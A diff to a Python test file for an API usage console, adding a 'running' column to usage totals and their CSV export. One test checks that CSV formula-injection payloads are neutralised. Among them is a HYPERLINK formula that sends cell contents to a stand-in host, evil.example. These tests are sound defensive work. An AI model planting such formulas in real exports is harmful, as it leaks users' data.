@@ -1,4 +1,5 @@
-"""Usage totals per key / user / model / day add up, and the CSV export carries the same numbers."""
+"""Usage totals per key / user / model / day add up, and the CSV export carries the same numbers. A
+request still running is in none of the totals but its own column."""
 
 import csv
 import io
@@ -23,7 +24,7 @@ def records():
     now = timezone.now()
     # (key index, model, prompt, completion, status, days ago)
     rows = [(0, "tiny", 10, 5, "ok", 0), (0, "tiny", 20, 7, "ok", 1), (0, "big", 3, 0, "error", 0),
-            (1, "big", 100, 50, "ok", 0), (1, "tiny", 1, 1, "aborted", 2)]
+            (1, "big", 100, 50, "ok", 0), (1, "tiny", 1, 1, "aborted", 2), (1, "big", 40, 9, "running", 0)]
     for i, (k, model, prompt, completion, status, days_ago) in enumerate(rows):
         record = usage_record_create(request_id=f"r{i}", endpoint="completions", status=status, latency=0.1,
                                      api_key=keys[k], user=users[k], model_name=model, prompt_tokens=prompt,
@@ -40,6 +41,7 @@ def test_totals_per_model_user_key_and_day_add_up(records):
 
     assert (by_model["tiny"]["requests"], by_model["tiny"]["total_tokens"], by_model["tiny"]["errors"]) == (3, 44, 1)
     assert (by_model["big"]["requests"], by_model["big"]["total_tokens"], by_model["big"]["errors"]) == (2, 153, 1)
+    assert (by_model["big"]["running"], by_model["tiny"]["running"]) == (1, 0)
     assert by_user["ann"]["prompt_tokens"] == 33 and by_user["ben"]["completion_tokens"] == 51
     assert by_key["ann-key"]["total_tokens"] == 45 and by_key["ben-key"]["total_tokens"] == 152
     assert [r["total_tokens"] for r in by_day] == [168, 27, 2]  # newest day first
@@ -65,8 +67,8 @@ def test_usage_csv_has_the_page_totals(client, records):
     assert response["Content-Type"] == "text/csv"
     table = list(csv.reader(io.StringIO(response.content.decode())))
     assert table[0] == ["model", "requests", "errors", "prompt_tokens", "completion_tokens",
-                        "cached_prompt_tokens", "total_tokens"]
-    assert table[1:] == [["big", "2", "1", "103", "50", "0", "153"], ["tiny", "3", "1", "31", "13", "0", "44"]]
+                        "cached_prompt_tokens", "total_tokens", "running"]
+    assert table[1:] == [["big", "2", "1", "103", "50", "0", "153", "1"], ["tiny", "3", "1", "31", "13", "0", "44", "0"]]
 
 
 @pytest.mark.parametrize("hostile", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1)",
@@ -81,4 +83,4 @@ def test_usage_csv_cells_never_run_as_formulas(client, hostile):
     for group in ("model", "end_user"):
         table = list(csv.reader(io.StringIO(client.get(f"/console/usage.csv?group={group}").content.decode())))
         assert table[1][0] == "'" + hostile  # shown as typed, as text
-        assert table[1][1:] == ["1", "0", "1", "1", "0", "2"]  # numbers stay numbers
+        assert table[1][1:] == ["1", "0", "1", "1", "0", "2", "0"]  # numbers stay numbers
